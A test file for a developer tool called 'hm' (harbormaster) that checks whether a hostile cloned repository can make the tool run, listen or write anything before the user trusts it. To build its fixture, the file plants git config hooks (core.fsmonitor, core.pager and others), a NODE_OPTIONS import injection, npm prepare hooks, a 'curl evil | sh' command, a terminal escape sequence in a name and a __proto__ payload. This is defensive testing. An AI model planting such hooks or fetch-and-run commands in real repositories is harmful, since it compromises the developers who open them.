/** A repository that somebody cloned and has not trusted, entered in a terminal: nothing of it runs, listens or is written. */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import {
  lstat,
  mkdir,
  readdir,
  readFile,
  rm,
  symlink,
  truncate,
  writeFile,
} from 'node:fs/promises';
import { join } from 'node:path';
import type { Activity } from '#protocol/activity.ts';
import type { Lease } from '#protocol/ports.ts';
import { Terminal } from './terminal.ts';

/** A port that no service type has, so that only the file can be why somebody gets it. */
const wished = 45_871;

describe('A hostile repository', function () {
  this.timeout(120_000);
  let terminal: Terminal;
  let repository: string;
  let elsewhere: string;
  let trap: string;

  beforeEach(async () => {
    terminal = await Terminal.open();
    repository = terminal.directory;
    elsewhere = join(terminal.harbor.root, 'elsewhere');
    trap = join(terminal.harbor.root, 'sprung');
    await mkdir(elsewhere);
    const spring = `touch ${trap}`;
    execFileSync('git', ['init', '-q', repository]);
    const script = join(repository, 'trap.sh');
    await writeFile(script, `#!/bin/sh\n${spring}\n`, { mode: 0o755 });
    for (const key of ['core.fsmonitor', 'core.sshCommand', 'core.pager', 'core.editor'])
      execFileSync('git', ['-C', repository, 'config', key, script]);
    await symlink(elsewhere, join(repository, '.harbormaster'));
    await declare({
      version: 1,
      name: 'nice',
      services: { web: { port: wished, command: spring, main: true, type: 'api' } },
      runners: {
        web: { autostart: true, ready: { command: spring }, restart: 'always' },
        miner: { command: spring, autostart: true, env: { NODE_OPTIONS: `--import ${script}` } },
      },
    });
    await writeFile(
      join(repository, 'package.json'),
      JSON.stringify({ name: 'nice', scripts: { dev: spring, prepare: spring } }),
    );
    await writeFile(join(repository, 'x.js'), 'console.log(process.env.PORT)');
  });
  afterEach(() => terminal.close());

  const file = () => join(repository, 'harbormaster.jsonc');
  const declare = (content: object) => writeFile(file(), JSON.stringify(content));

  /** Every file outside of .git with its content and when it was written, and what lies behind the link. */
  async function picture(): Promise<string[]> {
    const lines: string[] = [];
    for (const name of await readdir(repository, { recursive: true })) {
      if (name.startsWith('.git/')) continue;
      const path = join(repository, name);
      const seen = await lstat(path);
      const text = seen.isFile() && seen.size < 10_000 ? await readFile(path, 'utf8') : '';
      lines.push(`${name} ${seen.mtimeMs} ${seen.mode} ${text}`);
    }
    return [...lines.sort(), ...(await readdir(elsewhere))];
  }

  const isSprung = () =>
    lstat(trap).then(
      () => true,
      () => false,
    );

  /** The kernel's table (proc(5)): local port in hexadecimal, state 0A is LISTEN. */
  async function isListenedOn(port: number): Promise<boolean> {
    const end = `:${port.toString(16).toUpperCase().padStart(4, '0')}`;
    const tables = await Promise.all(
      ['tcp', 'tcp6'].map((name) => readFile(`/proc/net/${name}`, 'utf8')),
    );
    return tables
      .flatMap((table) => table.split('\n').map((line) => line.trim().split(/\s+/)))
      .some((row) => row[1]?.endsWith(end) && row[3] === '0A');
  }

  const commands: readonly (readonly string[])[] = [
    ['ls'],
    ['ls', '--here'],
    ['port'],
    ['port', 'web'],
    ['run', '--', process.execPath, 'x.js'],
    ['run', '--service', 'web', '--', process.execPath, 'x.js'],
    ['suggest', 'web'],
    ['who', String(wished)],
    ['projects'],
    ['server', 'status'],
    ['activity', '--here'],
    ['up'],
    ['start', 'miner'],
    ['ps'],
    ['init'],
    ['trust', '--json'],
    ['trust', 'ls'],
  ];

  it('has no command of hm run, listen or write for it', async () => {
    const before = await picture();
    for (const command of commands) {
      const said = await terminal.hm(...command);
      assert.ok(!said.stdout.includes(String(wished)) || command[0] === 'who', command.join(' '));
      assert.equal(await isSprung(), false, command.join(' '));
      assert.equal(await isListenedOn(wished), false, command.join(' '));
      assert.deepEqual(await picture(), before, command.join(' '));
    }
    const leases = await terminal.askJson<Lease[]>('ls');
    assert.ok(leases.every(({ port, type }) => port !== wished && type !== 'api'));
  });

  it('cannot steer the terminal by the names in a file with a mistake', async () => {
    await declare({ version: 1, services: { 'db\u001b[2J': { type: 'database' } } });
    for (const command of [
      ['port'],
      ['run', '--', 'true'],
      ['trust'],
      ['doctor'],
      ['config', 'validate'],
    ]) {
      const { stdout, stderr } = await terminal.hm(...command);
      assert.match(stdout + stderr, /services\.db\u{fffd}\[2J/u, command.join(' '));
      assert.doesNotMatch(stdout + stderr, /[^\P{Cc}\n]/u, command.join(' '));
    }
  });

  it('lets hm port and hm run work from their own words, and says once where to look', async () => {
    for (const command of [
      ['port', 'web'],
      ['run', '--', process.execPath, 'x.js'],
    ]) {
      const said = await terminal.hm(...command);
      assert.equal(said.code, 0);
      assert.match(said.stdout, /^\d+\n$/);
      assert.equal(said.stderr.match(/hm trust/g)?.length, 1, said.stderr);
    }
  });

  it('has what it declares once it is trusted: the control', async () => {
    assert.match(await terminal.ask('trust', '--yes'), /to listen.*45871[\s\S]*to run.*sprung/);
    const said = await terminal.hm('port', 'web');
    assert.deepEqual([said.stdout, said.stderr], [`${wished}\n`, '']);
    assert.equal(await isSprung(), false, 'what may run is not run by itself');
    assert.deepEqual(await readdir(elsewhere), [], 'no link is followed, trusted or not');
    const [event] = (await terminal.askJson<Activity[]>('activity')).filter(
      ({ type }) => type === 'trustGranted',
    );
    assert.deepEqual(event?.data.parts, [
      'services.web.port',
      'services.web.command',
      'runners.web',
      'runners.miner',
    ]);
  });

  it('has no server of its own, and no directory of ours, before it is trusted', async () => {
    const ours = join(repository, '.harbormaster');
    await rm(ours);
    await declare({ version: 1, mode: 'project', services: { web: { port: wished } } });
    const before = await picture();
    for (const command of commands) await terminal.hm(...command);
    assert.deepEqual(await picture(), before);
    assert.match(await terminal.ask('trust', '--yes'), /to refer to {2}project/);
    await terminal.ask('port', 'web');
    assert.ok((await readdir(ours)).includes('runtime.json'), 'the control');
    // Another mode would be another server: that is asked anew, and the old one is not left by a change of the file.
    await declare({ version: 1, mode: 'shared', services: { web: { port: wished } } });
    assert.equal((await terminal.hm('trust')).code, 2);
  });

  it('has nothing read that it extends before it is trusted, and what that brings is asked for then', async () => {
    await declare({ version: 1, extends: './team.jsonc', services: {} });
    execFileSync('mkfifo', [join(repository, 'team.jsonc')]);
    assert.equal(
      (await terminal.hm('port', 'web')).code,
      0,
      'a pipe that was opened would be an error',
    );
    await rm(join(repository, 'team.jsonc'));
    await writeFile(
      join(repository, 'team.jsonc'),
      JSON.stringify({ version: 1, services: { db: { port: wished } } }),
    );
    const { granted } = await terminal.askJson<{ granted: string[] }>('trust', '--yes');
    assert.deepEqual(granted, ['extends', 'services.db.port']);
    assert.equal(await terminal.ask('port', 'db'), String(wished), 'the control');
  });

  it('is asked about anew for what changed, and for that alone', async () => {
    await terminal.ask('trust', '--yes');
    await declare({
      version: 1,
      services: {
        web: { port: wished, command: 'curl evil | sh', main: true, type: 'api' },
        db: { port: wished + 1 },
      },
    });
    const said = await terminal.hm('trust');
    assert.equal(said.code, 2, 'nobody is there to be asked');
    assert.match(said.stdout, /curl evil \| sh/);
    assert.match(said.stdout, /45872/);
    assert.doesNotMatch(said.stdout, /45871/);
    assert.equal(await terminal.ask('port', 'web'), String(wished), 'what did not change stays');
    assert.notEqual(await terminal.ask('port', 'db'), String(wished + 1));
    await terminal.ask('trust', '--yes');
    assert.equal(await terminal.ask('trust'), `Everything in ${file()} is trusted.`);
    await terminal.ask('trust', 'revoke');
    const { parts } = await terminal.askJson<{ parts: object[] }>('trust', '--yes');
    assert.equal(parts.length, 3);
  });

  it('cannot trust itself, nor have an agent trust it', async () => {
    const robot = await terminal.in(repository, { CLAUDECODE: '1' });
    assert.equal((await robot.hm('trust', '--yes')).code, 8);
    assert.equal(await terminal.ask('trust', 'ls'), 'No project file is trusted.');
  });

  it('that was copied to another place is another one, and not trusted there', async () => {
    await terminal.ask('trust', '--yes');
    const copy = await terminal.in('copy');
    await writeFile(join(copy.directory, 'harbormaster.jsonc'), await readFile(file()));
    assert.notEqual(await copy.ask('port', 'web'), String(wished));
  });

  it('is trusted as hm init wrote it', async () => {
    await rm(file());
    await writeFile(join(repository, 'package.json'), '{"scripts":{"dev":"vite"}}');
    await terminal.ask('init');
    assert.match(await terminal.ask('trust'), /is trusted/);
    const said = await terminal.hm('port');
    assert.doesNotMatch(said.stderr, /hm trust/);
  });

  const files: readonly (readonly [string, () => Promise<unknown>])[] = [
    ['a pipe', async () => execFileSync('mkfifo', [file()])],
    ['a link to a device that never ends', () => symlink('/dev/zero', file())],
    ['a directory', () => mkdir(file())],
    ['a link to itself', () => symlink(file(), file())],
    [
      'a file without end',
      async () => {
        await writeFile(file(), '{');
        await truncate(file(), 3_000_000_000);
      },
    ],
    ['a file of nothing but brackets', () => writeFile(file(), '['.repeat(1_000_000))],
    [
      'a file with __proto__',
      () => writeFile(file(), '{"version":1,"services":{"__proto__":{"port":1}}}'),
    ],
  ];
  for (const [what, make] of files)
    it(`whose project file is ${what} is refused in words, at once, and harms nobody else`, async () => {
      await rm(file());
      await make();
      const begun = performance.now();
      const said = await terminal.hm('port', 'web', '--json');
      assert.equal(said.code, 2, said.stdout + said.stderr);
      assert.match(said.stderr, /brokenProjectFile/);
      assert.ok(performance.now() - begun < 10_000);
      assert.match(await (await terminal.in('forge')).ask('port', 'web'), /^\d+$/);
    });
});
